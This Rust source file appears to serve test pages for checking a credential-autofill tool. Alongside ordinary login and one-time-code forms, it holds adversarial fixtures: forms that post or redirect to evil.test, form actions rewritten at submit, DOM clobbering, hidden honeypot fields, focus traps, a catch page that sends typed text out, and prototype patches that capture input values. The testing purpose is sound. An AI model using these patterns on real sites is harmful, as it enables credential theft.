//! The pages. Each path is one; every host serves all of them.

use super::site::{Request, Response};
use std::sync::OnceLock;
use std::time::Duration;

/// React and Vue as their packages bring them, if they could be installed.
pub static LIBRARIES: OnceLock<std::path::PathBuf> = OnceLock::new();

/// What every page notes of what happens to it.
const NOTES: &str = r#"<script>
window.seen = [];
for (const type of ['focusin', 'beforeinput', 'input', 'change', 'submit', 'paste', 'keydown'])
  addEventListener(type, (event) => seen.push({ type, trusted: event.isTrusted, field: event.target.id ?? '' }), true);
</script>"#;

const USER: &str = r#"<input id="user" name="username" autocomplete="username">"#;
const PASS: &str = r#"<input id="pass" name="password" type="password" autocomplete="current-password">"#;
const CODE: &str = r#"<input id="code" name="otp" inputmode="numeric" autocomplete="one-time-code">"#;
const SEND: &str = r#"<button>Sign in</button>"#;

fn form(inner: &str) -> String {
    format!(r#"<form method="post" action="/session">{inner}{SEND}</form>"#)
}

fn login() -> String {
    form(&format!("{USER}{PASS}"))
}

fn six(change: &str) -> String {
    let boxes: String =
        (0..6).map(|i| format!(r#"<input class="box" id="b{i}" maxlength="1" inputmode="numeric">"#)).collect();
    format!(
        r#"<form method="post" action="/session" id="boxes">{boxes}<input type="hidden" name="code" id="whole">{SEND}</form>
<script>
const boxes = [...document.querySelectorAll('.box')];
const collect = () => {{ whole.value = boxes.map((box) => box.value).join(''); }};
{change}
</script>"#
    )
}

/// The body of a page.
fn body(path: &str) -> Option<String> {
    let frame = |url: &str, more: &str| format!(r#"<iframe src="{url}" width="400" height="200" {more}></iframe>"#);
    Some(match path {
        "/plain" => login(),
        "/shown" => format!(r#"<input value="{}">"#, super::credential::USERNAME),
        "/welcome" => "<h1>Welcome</h1>".to_owned(),
        "/user-first" => format!(r#"<form method="post" action="/user">{USER}<button>Next</button></form>"#),
        "/password-second" => format!(r#"<form method="post" action="/session">{PASS}{SEND}</form>"#),
        "/three" => format!(r#"<form method="post" action="/user3">{USER}<button>Next</button></form>"#),
        "/three-password" => format!(r#"<form method="post" action="/password3">{PASS}{SEND}</form>"#),
        "/three-code" => form(CODE),
        "/user-then-evil" => format!(r#"<form method="post" action="/user-evil">{USER}<button>Next</button></form>"#),
        "/one-document" => format!(
            r#"<form id="f" onsubmit="return false">{USER}<div id="more"></div><button id="go" type="button">Continue</button></form>
<script>
let user = null;
go.onclick = async () => {{
  if (user === null) {{ user = document.getElementById('user').value; setTimeout(() => {{ more.innerHTML = '{PASS}'; }}, 200); return; }}
  await fetch('/session', {{ method: 'POST', body: new URLSearchParams({{ user, pass: pass.value }}) }});
  location.href = '/welcome';
}};
</script>"#
        ),
        "/code" => form(CODE),
        "/all-three" => form(&format!("{USER}{PASS}{CODE}")),
        "/boxes" => six(r#"boxes.forEach((box, i) => { box.oninput = () => { collect(); boxes[i + 1]?.focus(); }; });"#),
        "/boxes-auto" => six(
            r#"boxes.forEach((box, i) => { box.oninput = () => { collect(); boxes[i + 1]?.focus();
                 if (whole.value.length === 6) document.forms[0].requestSubmit(); }; });"#,
        ),
        "/boxes-paste" => six(
            r#"boxes.forEach((box) => {
                 box.onbeforeinput = (event) => event.preventDefault();
                 box.oninput = () => { box.value = ''; };
                 box.onpaste = (event) => { event.preventDefault();
                   [...event.clipboardData.getData('text')].forEach((digit, at) => { boxes[at].value = digit; }); collect(); }; });"#,
        ),
        "/react" => react(
            r#"const [user, setUser] = useState(''); const [pass, setPass] = useState('');
const send = async (event) => { event.preventDefault();
  await fetch('/session', { method: 'POST', body: new URLSearchParams({ user, pass }) }); location.href = '/welcome'; };
return e('form', { onSubmit: send },
  e('input', { name: 'username', value: user, onChange: (event) => setUser(event.target.value) }),
  e('input', { type: 'password', value: pass, onChange: (event) => setPass(event.target.value) }),
  e('button', { disabled: !user || !pass }, 'Sign in'));"#,
        ),
        "/react-slow-button" => react(
            r#"const [user, setUser] = useState(''); const [pass, setPass] = useState(''); const [ok, setOk] = useState(false);
React.useEffect(() => { const timer = setTimeout(() => setOk(!!user && !!pass), 400); return () => clearTimeout(timer); }, [user, pass]);
const send = async (event) => { event.preventDefault();
  await fetch('/session', { method: 'POST', body: new URLSearchParams({ user, pass }) }); location.href = '/welcome'; };
return e('form', { onSubmit: send },
  e('input', { name: 'username', value: user, onChange: (event) => setUser(event.target.value) }),
  e('input', { type: 'password', value: pass, onChange: (event) => setPass(event.target.value) }),
  e('button', { disabled: !ok }, 'Sign in'));"#,
        ),
        "/react-boxes" => react(
            r#"const [digits, setDigits] = useState(['', '', '', '', '', '']);
const refs = React.useRef([]);
const send = async (event) => { event.preventDefault();
  await fetch('/session', { method: 'POST', body: new URLSearchParams({ code: digits.join('') }) }); location.href = '/welcome'; };
const change = (at) => (event) => { const digit = event.target.value.slice(-1);
  setDigits((old) => old.map((was, i) => (i === at ? digit : was))); refs.current[at + 1]?.focus(); };
return e('form', { onSubmit: send }, digits.map((digit, i) =>
  e('input', { key: i, maxLength: 1, value: digit, ref: (element) => { refs.current[i] = element; }, onChange: change(i) })),
  e('button', { disabled: digits.some((digit) => !digit) }, 'Verify'));"#,
        ),
        "/vue" => r#"<div id="app"><form @submit.prevent="send"><input name="username" v-model="user">
<input type="password" v-model.lazy="pass"><button :disabled="!user">Sign in</button></form></div>
<script src="/lib/vue.js"></script><script>
Vue.createApp({ data: () => ({ user: '', pass: '' }), methods: { async send() {
  await fetch('/session', { method: 'POST', body: new URLSearchParams({ user: this.user, pass: this.pass }) });
  location.href = '/welcome'; } } }).mount('#app');
</script>"#
            .to_owned(),
        "/shadow-open" | "/shadow-closed" => format!(
            r#"<login-box></login-box><script>
customElements.define('login-box', class extends HTMLElement {{ connectedCallback() {{
  this.attachShadow({{ mode: '{}' }}).innerHTML = `{}`; }} }});
</script>"#,
            &path[8..],
            login()
        ),
        "/honeypots" => form(&format!(
            r#"<input name="user0" style="display:none"><input name="user1" style="opacity:0">
<input name="user2" style="position:absolute;left:-9999px"><input name="user3" style="width:0;height:0;border:0;padding:0">
<input name="user4" style="position:absolute;clip:rect(0 0 0 0)"><input name="user5" style="clip-path:inset(100%)">
<div style="height:0;overflow:hidden"><input name="user6"></div><div aria-hidden="true"><input name="user7"></div>
<input name="user8" style="visibility:hidden"><div style="opacity:0"><input name="user9"></div>
<input type="password" name="pass0" style="position:absolute;top:-500px">{USER}{PASS}
<input name="login_after" style="transform:scale(0)">"#
        )),
        "/new-password" => form(r#"<input name="user"><input type="password" autocomplete="new-password">"#),
        "/registration" => form(r#"<input type="email" name="email"><input type="password" name="a"><input type="password" name="b">"#),
        "/change" => form(
            r#"<input type="password" autocomplete="current-password"><input type="password" autocomplete="new-password">
<input type="password" autocomplete="new-password">"#,
        ),
        "/get" => format!(r#"<form method="get" action="/session">{USER}{PASS}{SEND}</form>"#),
        "/get-handled" => format!(
            r#"<form id="f">{USER}{PASS}{SEND}</form><script>
f.addEventListener('submit', async (event) => {{ event.preventDefault();
  await fetch('/session', {{ method: 'POST', body: new URLSearchParams(new FormData(f)) }}); location.href = '/welcome'; }});
</script>"#
        ),
        "/elsewhere" => format!(r#"<form method="post" action="https://evil.test/session">{USER}{PASS}{SEND}</form>"#),
        "/formaction" => format!(
            r#"<form method="post" action="/session">{USER}{PASS}<button formaction="https://evil.test/session">Go</button></form>"#
        ),
        "/http-action" => format!(r#"<form method="post" action="http://app.example.test/session">{USER}{PASS}{SEND}</form>"#),
        "/turns-elsewhere" => format!(
            r#"<form method="post" action="/session" id="f">{USER}{PASS}{SEND}</form><script>
f.oninput = () => {{ f.action = 'https://evil.test/session'; }};
</script>"#
        ),
        "/turns-at-submit" => format!(
            r#"<form method="post" action="/session" id="f">{USER}{PASS}{SEND}</form><script>
f.onsubmit = () => {{ f.action = 'https://evil.test/session'; }};
</script>"#
        ),
        "/clobbered" => format!(
            r#"<img name="querySelectorAll"><img name="execCommand"><img name="baseURI"><form method="post" action="https://evil.test/session">
<input type="hidden" name="action" value="/session"><input type="hidden" name="method"><input type="hidden" name="elements">
{USER}{PASS}<button name="requestSubmit">Sign in</button></form>"#
        ),
        "/reveal" => form(&format!(
            r#"{USER}{PASS}<button type="button" id="eye" onclick="pass.type = pass.type === 'text' ? 'password' : 'text'">Show</button>"#
        )),
        "/revealed" => form(&format!(
            r#"{USER}<input id="pass" name="password" type="text" autocomplete="current-password">"#
        )),
        "/comment" => format!(
            r#"<form method="post" action="/comment"><textarea name="comment" id="comment"></textarea><input name="title" id="title">
<div contenteditable id="rich"></div><button>Post</button></form>{}"#,
            login()
        ),
        "/newsletter" => r#"<form method="post" action="/subscribe"><input type="email" name="email"><button>Subscribe</button></form>"#.to_owned(),
        "/no-form" => format!(
            r#"<div>{USER}{PASS}<button onclick="fetch('/session', {{ method: 'POST', body: new URLSearchParams({{
user: user.value, pass: pass.value }}) }}).then(() => {{ location.href = '/welcome'; }})">Log in</button><button>Forgot?</button></div>"#
        ),
        "/no-button" => format!("<div>{USER}{PASS}</div>"),
        "/frame-same-site" => frame("https://login.example.test/plain", ""),
        "/frame-evil" => frame("https://evil.test/plain", ""),
        "/frame-good" => frame("https://app.example.test/plain", ""),
        "/frame-sandbox" => frame("/plain", r#"sandbox="allow-scripts allow-forms""#),
        "/frame-srcdoc" => format!(r#"<iframe width="400" height="200" srcdoc='{}'></iframe>"#, login().replace('\'', "&#39;")),
        "/frame-deep" => frame("https://evil.test/frame-good", ""),
        "/csp-sandbox" => login(),
        "/to-evil-on-load" => format!(r#"{}<script>setTimeout(() => {{ location.href = 'https://evil.test/plain'; }}, 30)</script>"#, login()),
        "/navigates-on-focus" => format!(
            r#"{}<script>pass.onfocus = () => {{ location.href = 'https://evil.test/catch'; }};
user.onfocus = pass.onfocus;</script>"#,
            login()
        ),
        "/moves-focus" => format!(
            r#"{}<input id="trap"><script>pass.onfocus = () => document.getElementById('trap').focus();</script>"#,
            login()
        ),
        "/moves-focus-frame" => format!(
            r#"{}<iframe id="trap" src="https://evil.test/catch" width="300" height="100"></iframe>
<script>pass.onfocus = () => document.getElementById('trap').focus();</script>"#,
            login()
        ),
        // Whatever is typed into it or in its address goes to its server.
        "/catch" => r#"<input id="first" autofocus oninput="fetch('/caught?' + encodeURIComponent(this.value))">
<script>first.focus(); fetch('/caught?' + encodeURIComponent(location.href));</script>"#
            .to_owned(),
        "/slow-fetch" => format!(
            r#"<form id="f" onsubmit="return false">{USER}{PASS}{SEND}</form><script>
f.addEventListener('submit', () => fetch('/session-slow', {{ method: 'POST', body: new URLSearchParams(new FormData(f)) }}));
</script>"#
        ),
        "/fails" => format!(r#"<form method="post" action="/session-fails">{USER}{PASS}{SEND}</form>"#),
        "/fails-in-place" => format!(
            r#"<form id="f" onsubmit="return false">{USER}{PASS}{SEND}</form><p id="error"></p><script>
f.addEventListener('submit', async () => {{
  await fetch('/session', {{ method: 'POST', body: new URLSearchParams(new FormData(f)) }});
  pass.value = ''; user.value = ''; error.textContent = 'wrong';
}});
</script>"#
        ),
        "/readonly-user" => form(&format!(
            r#"<input name="username" autocomplete="username" readonly value="User-Canary@example.test">{PASS}"#
        )),
        "/readonly-other" => form(&format!(
            r#"<input name="username" autocomplete="username" readonly value="someone@example.test">{PASS}"#
        )),
        "/masked-code" => form(
            r#"<input id="code" name="otp" autocomplete="one-time-code" oninput="const d = this.value.replace(/\D/g, '');
this.value = d.length > 3 ? d.slice(0, 3) + ' ' + d.slice(3, 6) : d">"#,
        ),
        "/patched" => format!(
            r#"{}<script>
window.origin = 'https://example.test';
Document.prototype.execCommand = function () {{ window.stolen = arguments; }};
HTMLFormElement.prototype.requestSubmit = function () {{ window.stolen = 'submit'; }};
Element.prototype.querySelectorAll = Document.prototype.querySelectorAll = function () {{ return []; }};
Object.defineProperty(HTMLInputElement.prototype, 'value', {{ get() {{ return ''; }}, set(value) {{ window.stolen = value; }} }});
</script>"#,
            login()
        ),
        _ => return None,
    })
}

fn react(component: &str) -> String {
    format!(
        r#"<div id="root"></div><script src="/lib/react.js"></script><script src="/lib/react-dom.js"></script><script>
const e = React.createElement; const {{ useState }} = React;
function Login() {{ {component} }}
ReactDOM.createRoot(document.getElementById('root')).render(e(Login));
</script>"#
    )
}

pub fn answer(request: &Request) -> Response {
    let see = |to: &str| Response { status: 303, headers: vec![("location", to.to_owned())], ..Response::default() };
    match request.path.as_str() {
        "/session" => {
            Response { headers: vec![("location", "/welcome".into()), ("set-cookie", "session=1".into())], ..see("") }
        }
        "/session-slow" => Response { status: 204, delay: Duration::from_secs(1), ..Response::default() },
        "/session-fails" => see("/fails"),
        "/user" => see("/password-second"),
        "/user3" => see("/three-password"),
        "/password3" => see("/three-code"),
        "/redirects-to-evil" => see("https://evil.test/plain"),
        "/user-evil" => see("https://evil.test/password-second"),
        "/caught" | "/favicon.ico" => Response { status: 204, ..Response::default() },
        path => match path.strip_prefix("/lib/") {
            Some(library) => file(library),
            None => page(path),
        },
    }
}

fn page(path: &str) -> Response {
    let Some(body) = body(path) else { return Response { status: 404, ..Response::default() } };
    let html =
        format!(r#"<!doctype html><html lang="en"><meta charset="utf-8"><title>{path}</title>{NOTES}<body>{body}"#);
    let mut headers = vec![("content-type", "text/html; charset=utf-8".to_owned())];
    if path == "/csp-sandbox" {
        headers.push(("content-security-policy", "sandbox allow-scripts allow-forms".to_owned()));
    }
    Response { status: 200, headers, body: html.into_bytes(), delay: Duration::ZERO }
}

fn file(name: &str) -> Response {
    let path = match name {
        "react.js" => "react/umd/react.production.min.js",
        "react-dom.js" => "react-dom/umd/react-dom.production.min.js",
        _ => "vue/dist/vue.global.prod.js",
    };
    let body = LIBRARIES.get().map(|folder| std::fs::read(folder.join(path)).unwrap()).unwrap_or_default();
    Response { status: 200, headers: vec![("content-type", "text/javascript".into())], body, delay: Duration::ZERO }
}
